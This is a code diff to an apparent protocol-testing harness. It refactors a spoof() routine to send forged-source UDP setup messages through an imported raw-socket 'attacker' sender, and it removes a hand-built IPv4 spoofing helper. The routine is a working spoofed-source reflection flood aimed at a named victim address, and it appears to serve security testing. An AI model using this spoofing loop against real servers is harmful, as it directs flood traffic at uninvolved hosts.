@@ -25,12 +25,12 @@ from __future__ import annotations
 import json
 import select
 import socket
-import struct
 import sys
 import time
 
 from slipstream.client.frames import Data, Heartbeat, StatusMessage, decode_datagram
 from slipstream.client.layout import SM_SEND_SETUP_FLAG
+from slipstream.sim.real.attacker import RawSender
 
 OWN_PORT = 40200
 SPOOF_FIRST_PORT = 40300
@@ -89,42 +89,27 @@ def own(controls: list[tuple[str, int]], stream_id: int, seconds: float, rate: f
     return stats
 
 
-def _checksum(header: bytes) -> int:
-    total = sum(struct.unpack(f"!{len(header) // 2}H", header))
-    total = (total >> 16) + (total & 0xFFFF)
-    return ~(total + (total >> 16)) & 0xFFFF
-
-
-def _spoofed(source: tuple[str, int], destination: tuple[str, int], payload: bytes) -> bytes:
-    """An IPv4 datagram from ``source`` (whatever address it names) to ``destination``."""
-    udp = struct.pack("!HHHH", source[1], destination[1], 8 + len(payload), 0) + payload
-    header = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64,
-                         socket.IPPROTO_UDP, 0, socket.inet_aton(source[0]),
-                         socket.inet_aton(destination[0]))
-    header = header[:10] + struct.pack("!H", _checksum(header)) + header[12:]
-    return header + udp
-
-
 def spoof(control: tuple[str, int], stream_id: int, seconds: float, rate: float, victim: str,
           ports: int, also: tuple[str, int] | None) -> dict:
-    sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    raw = RawSender()
     join = StatusMessage(0, stream_id, 0, 0, 0, RECEIVER_ID, SM_SEND_SETUP_FLAG).encode()
     sent = {"victim_bytes": 0, "victim_messages": 0, "also_messages": 0}
     start = time.monotonic()
     k = 0
     while time.monotonic() - start < seconds:
         if also is not None and k % 8 == 7:
-            sock.sendto(_spoofed(also, control, join), (control[0], 0))
+            raw.send(also, control, join)
             sent["also_messages"] += 1
         else:
             source = (victim, SPOOF_FIRST_PORT + k % ports)
-            sock.sendto(_spoofed(source, control, join), (control[0], 0))
+            raw.send(source, control, join)
             sent["victim_bytes"] += len(join)
             sent["victim_messages"] += 1
         k += 1
         delay = start + k / rate - time.monotonic()
         if delay > 0:
             time.sleep(delay)
+    raw.close()
     return sent
 
 
